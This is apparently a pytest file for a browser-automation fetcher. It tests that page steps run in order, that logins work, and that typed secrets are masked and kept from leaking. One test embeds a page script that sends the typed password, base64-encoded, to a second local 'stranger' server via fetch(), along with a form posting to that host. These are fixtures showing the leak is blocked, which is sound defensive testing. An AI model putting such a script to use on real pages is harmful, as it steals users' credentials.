"""Steps in the browser: their effect, their limits and their errors."""

from __future__ import annotations

import html
import json
from typing import Any

import pytest

from tests.fakes import Page, Seen, WebServer, Wire, response
from tidings.fetching.browser.steps import SHOWN, Typed
from tidings.fetching.browser.visit import treatment
from tidings.model.observed.outcome import Failed, Fetched, PlayedStep
from tidings.model.secret import Secret

HTML = {"Content-Type": "text/html; charset=utf-8"}
PASSWORD = "k3ttle & spoon"
FORM = """<!doctype html><title>Log in</title><form method=post action=/in>
<input id=user name=user><input id=pw type=password name=pw><button>Go</button></form>"""
SHOP = """<!doctype html><title>Shop</title><button id=more>More</button>
<select id=size><option>Small<option>Large</select>
<ul id=list><li>one</ul><p hidden id=no>hidden</p><script>
more.onclick = () => setTimeout(() => list.insertAdjacentHTML("beforeend", "<li class=new>two</li>"), 50);
size.onchange = () => list.insertAdjacentHTML("beforeend", `<li>${size.value}</li>`);
document.onkeydown = (event) => { document.title = event.key; };
</script>"""


def make_step(verb: Any, place: str = "", value: str | Secret = "") -> PlayedStep:
    shown = "secret" if isinstance(value, Secret) else value
    return PlayedStep(f"{verb} {place} {shown}".strip(), verb, place, value)


def test_steps_run_in_order_before_the_page_is_read(chromium, server):
    """The content after a click, a choice and a key is in the page."""
    server.pages["/"] = Page(SHOP.encode(), HTML)

    seen = chromium.render(
        server.url("/"),
        steps=(
            make_step("click", "text=more"),
            make_step("wait", "css=.new"),
            make_step("select", "css=#size", "Large"),
            make_step("press", "", "Tab"),
            make_step("scroll"),
        ),
    )

    assert isinstance(seen, Fetched), seen
    assert '<li>one</li><li class="new">two</li><li>Large</li>' in seen.body.decode().replace("\n", "")


@pytest.mark.parametrize(
    ("place", "why"),
    [("css=#gone", "no element of the page matches"), ("css=#no", "one element matches, but is hidden")],
)
def test_failed_step_is_named_with_the_text_of_the_page(chromium, server, monkeypatch, place, why):
    """The poll fails, because an incomplete page must not be compared."""
    monkeypatch.setattr("tidings.fetching.browser.steps.STEP_SECONDS", 0.3)
    server.pages["/"] = Page(SHOP.encode(), HTML)

    seen = chromium.render(server.url("/"), steps=(make_step("press", "", "Tab"), make_step("click", place)))

    assert isinstance(seen, Failed)
    assert f"step 2 of 2, click {place}: {why}" in seen.reason
    assert "The page “Tab” says: More" in seen.reason
    assert "request" == seen.kind


def test_login_steps_lead_to_the_page_behind(chromium, server):
    """The redirect of the form is followed with its cookie. The password is in no other request."""

    def enter(seen: Seen, wire: Wire) -> None:
        head = {"Location": "/mine", "Set-Cookie": "sid=1; Path=/; HttpOnly"}
        wire.send(response(Page(b"", head, status=303), seen))

    def mine(seen: Seen, wire: Wire) -> None:
        is_in = "sid=1" in seen.headers.get("cookie", "")
        text = f"<title>Mine</title><p>{'Orders: 3' if is_in else 'stranger'}<p>not {PASSWORD}<a href=next>next</a>"
        wire.send(response(Page(text.replace("&", "&amp;").encode(), HTML), seen))

    server.pages |= {"/": Page(FORM.encode(), HTML), "/in": enter, "/mine": mine}

    seen = chromium.render(
        server.url("/"),
        steps=(
            make_step("fill", "css=#user", "anna"),
            make_step("fill", "css=#pw", Secret(PASSWORD)),
            make_step("press", "css=#pw", "Enter"),
            make_step("wait", "text=Orders"),
        ),
    )

    assert isinstance(seen, Fetched), seen
    assert "Orders: 3" in seen.body.decode()
    assert "not ***" in seen.body.decode()
    assert server.url("/mine") == seen.final_url
    assert ["GET /", "POST /in", "GET /mine"] == [f"{asked.method} {asked.path}" for asked in server.seen]
    assert ["/in"] == [asked.path for asked in server.seen if b"k3ttle" in asked.body or "k3ttle" in asked.target]


@pytest.mark.parametrize(("value", "is_sent"), [("yes", True), (PASSWORD, False)])
def test_cookie_of_a_script_is_sent_unless_it_has_a_typed_secret(chromium, server, value, is_sent):
    """A click that sets a cookie opens the page behind it."""
    script = f"document.cookie = {json.dumps('told=' + value + '; path=/')}; location = '/behind'"
    page = f'{FORM}<button id=ok onclick="{html.escape(script)}">OK</button>'
    server.pages |= {"/": Page(page.encode(), HTML), "/behind": Page(b"<p>Behind</p>", HTML)}

    seen = chromium.render(
        server.url("/"),
        steps=(
            make_step("fill", "css=#pw", Secret(PASSWORD)),
            make_step("click", "css=#ok"),
            make_step("wait", "text=Behind"),
        ),
    )

    assert isinstance(seen, Fetched), seen
    assert is_sent is ("told=" in server.seen[-1].headers.get("cookie", ""))


def test_after_a_typed_secret_only_its_origin_is_requested(chromium):
    """No request of a script, no form and no address can send it elsewhere."""
    with WebServer() as home, WebServer() as stranger:
        taken = f"fetch('{stranger.url('/taken')}?' + btoa(pw.value), {{mode: 'no-cors'}})"
        script = f"<script>pw.oninput = () => {taken};</script>"
        elsewhere = FORM.replace("/in", stranger.url("/in"))
        by_address = FORM.replace("method=post", "method=get")
        home.pages |= {
            "/": Page((FORM + script).encode(), HTML),
            "/elsewhere": Page(elsewhere.encode(), HTML),
            "/get": Page(by_address.encode(), HTML),
        }
        stranger.pages |= {"/taken": Page(b"ok"), "/in": Page(b"ok", HTML)}
        steps = (make_step("fill", "css=#pw", Secret(PASSWORD)), make_step("press", "css=#pw", "Enter"))
        # another port of this machine is another origin
        quiet = chromium.render(home.url("/"), steps=steps[:1])
        form = chromium.render(home.url("/elsewhere"), steps=steps)
        written = chromium.render(home.url("/get"), steps=steps)

        assert isinstance(quiet, Fetched), quiet
        assert isinstance(form, Failed)
        assert "step 2 of 2, press css=#pw Enter: after a secret was typed, requests go only to" in form.reason
        assert isinstance(written, Failed)
        assert "puts the typed secret into an address" in written.reason
        assert [] == stranger.seen
        assert [] == [asked.target for asked in home.seen if "k3ttle" in asked.target]


@pytest.mark.parametrize(
    ("method", "steps", "expected"),
    [
        ("GET", False, "move"),
        ("POST", False, "refuse"),
        ("GET", True, "follow"),
        ("POST", True, "follow"),
        ("PUT", True, "refuse"),
    ],
)
def test_only_steps_may_submit_a_form(method, steps, expected):
    """A script alone can only load another page by GET."""
    assert expected == treatment("document", method, is_page=True, pictures=False, steps=steps)


def test_typed_secret_is_masked_in_every_encoding():
    """The secret may be plain, or encoded for HTML, JSON or addresses."""
    typed = Typed()
    typed.add(Secret(PASSWORD))
    typed.add(Secret('a"b<c\u00a0é'))

    assert "a *** b *** c ***" == typed.mask(f"a {PASSWORD} b k3ttle &amp; spoon c k3ttle+%26+spoon")
    assert "*** *** *** ***" == typed.mask(
        r'a"b&lt;c&nbsp;é a&quot;b<c&nbsp;é a\"b<c\u00a0\u00e9 a%22b%3Cc%C2%A0%C3%A9'
    )
    assert typed.is_in("https://x.example/?q=k3ttle%20%26%20spoon")
    assert not typed.is_in("https://x.example/?q=k3ttle")


def test_longer_secret_is_masked_first():
    """A secret may be a part of another one, whichever was typed first."""
    typed = Typed()
    typed.add(Secret("kettle"))
    typed.add(Secret("kettle-17"))

    assert "*** ***" == typed.mask("kettle-17 kettle")


def test_failure_shows_no_prefix_of_a_secret(chromium, server, monkeypatch):
    """The text of the page is masked before it is cut."""
    monkeypatch.setattr("tidings.fetching.browser.steps.STEP_SECONDS", 0.3)
    words = "x" * (SHOWN - 10)
    echo = f"<div id=out></div><script>pw.oninput = () => {{ out.textContent = '{words} ' + pw.value; }};</script>"
    server.pages["/"] = Page((FORM + echo).encode(), HTML)
    steps = (make_step("fill", "css=#pw", Secret(PASSWORD)), make_step("click", "css=#gone"))

    seen = chromium.render(server.url("/"), steps=steps)

    assert isinstance(seen, Failed)
    assert "xxx" in seen.reason
    assert "k3t" not in seen.reason


@pytest.mark.parametrize(("field", "is_kept"), [("css=#pw", True), ("css=#user", False)])
def test_picture_with_a_typed_secret_is_dropped(chromium, server, field, is_kept):
    """A password field shows dots; another field shows the secret."""
    server.pages["/"] = Page(FORM.encode(), HTML)

    seen = chromium.render(server.url("/"), screenshot=True, steps=(make_step("fill", field, Secret(PASSWORD)),))

    assert isinstance(seen, Fetched), seen
    assert is_kept == bool(seen.screenshot)
